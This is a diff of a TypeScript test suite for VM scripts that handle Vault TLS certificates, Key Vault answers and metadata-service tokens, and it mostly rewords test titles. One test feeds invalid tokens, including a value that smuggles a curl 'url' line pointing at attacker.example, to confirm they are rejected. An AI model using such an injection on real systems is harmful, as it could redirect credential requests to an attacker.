@@ -26,7 +26,7 @@ beforeAll(async () => {
 });
 afterEach(() => vm.remove());
 
-/** Key Vault's answers by the last part of the URL; what is not there is refused. */
+/** Sets Key Vault's answers by the last part of the URL. Other requests are rejected. */
 function keyVaultAnswers(answers: Readonly<Record<string, unknown>>): void {
   for (const [name, answer] of Object.entries(answers)) vm.write(`answers/${name}`, JSON.stringify(answer));
   vm.program("usr/local/sbin/azure-key-vault", `cat "${vm.path("answers")}/\${2##*/}"`);
@@ -52,7 +52,7 @@ describe("Vault's certificate on its VM", () => {
     vm = new VmPrograms(vaultServerUserData(vaultServer));
   });
 
-  it("is installed with its key, which nobody but its owner reads; nothing else is left", async () => {
+  it("is installed with its key, which only its owner can read, and without other files", async () => {
     expect(await take(pemOf(fresh))).toMatchObject({ code: 0 });
     const mode = (path: string) => (statSync(vm.path(path)).mode & 0o777).toString(8);
     expect([mode("tls/current/tls.key"), mode("tls/current/tls.crt")]).toEqual(["400", "444"]);
@@ -70,7 +70,7 @@ describe("Vault's certificate on its VM", () => {
     ],
     ["without its key", () => other.certificatePem, /holds no unencrypted private key/],
     ["that is missing beside its key", () => other.keyPem, /holds a key but no certificate/],
-  ])("%s is refused, and the one in use stays", async (_what, pem, sentence) => {
+  ])("%s is rejected, and the one in use stays", async (_what, pem, sentence) => {
     await take(pemOf(fresh));
     const { code, said } = await take(pem());
     expect([code, said]).toEqual([1, expect.stringMatching(sentence)]);
@@ -102,14 +102,14 @@ describe("What Vault Agent trusts", () => {
     vm = new VmPrograms(agentVmUserData(agentVm));
   });
 
-  it("is the newest certificate and the one before it", async () => {
+  it("is the newest certificate and the previous one", async () => {
     vm.write("ca.pem", `${fresh.certificatePem}\n`);
     keyVaultAnswers({ "vault-tls": cer(other) });
     expect(await follow()).toMatchObject({ code: 0 });
     expect(trusted()).toEqual(fingerprints(other, fresh));
   });
 
-  it("is none that has expired: the one in use stays", async () => {
+  it("is never an expired one: the one in use stays", async () => {
     vm.write("ca.pem", `${fresh.certificatePem}\n`);
     keyVaultAnswers({ "vault-tls": cer(expired) });
     const { code, said } = await follow();
@@ -117,13 +117,13 @@ describe("What Vault Agent trusts", () => {
     expect(trusted()).toEqual(fingerprints(fresh));
   });
 
-  it("is nothing at first where the newest has expired", async () => {
+  it("is nothing at first if the newest has expired", async () => {
     keyVaultAnswers({ "vault-tls": cer(expired) });
     expect((await follow()).code).toBe(1);
     expect(existsSync(vm.path("ca.pem"))).toBe(false);
   });
 
-  it("is not the one before it once that has expired", async () => {
+  it("is not the previous one once that has expired", async () => {
     vm.write("ca.pem", `${expired.certificatePem}\n`);
     keyVaultAnswers({ "vault-tls": cer(other) });
     expect(await follow()).toMatchObject({ code: 0 });
@@ -133,7 +133,7 @@ describe("What Vault Agent trusts", () => {
   it.each<[string, boolean, number]>([
     ["is still valid", true, 30 * minute],
     ["has expired", false, -minute],
-  ])("after a reboot is the one before it if it %s", async (_what, isTrusted, life) => {
+  ])("after a reboot is the previous one if it %s", async (_what, isTrusted, life) => {
     const before = await until(life);
     keyVaultAnswers({
       "vault-tls": cer(other),
@@ -150,7 +150,7 @@ describe("What Vault Agent trusts", () => {
     expect(trusted()).toEqual(isTrusted ? fingerprints(other, before) : fingerprints(other));
   });
 
-  it("is not the one before it that was disabled", async () => {
+  it("is not the previous one if that was disabled", async () => {
     const disabled = version("one", seconds(-60 * minute), seconds(30 * minute));
     disabled.attributes.enabled = false;
     keyVaultAnswers({
@@ -179,7 +179,7 @@ describe("A token of the VM's identity", () => {
   afterEach(() => new Promise((done) => imds.close(done)));
 
   it.each(['a"\nurl = "http://attacker.example', "a b", "", undefined, "a\\nb", "x; y"])(
-    "%j is none, and reaches no configuration of curl",
+    "%j is invalid, and reaches no configuration of curl",
     async (token) => {
       answer = { access_token: token };
       asked.length = 0;
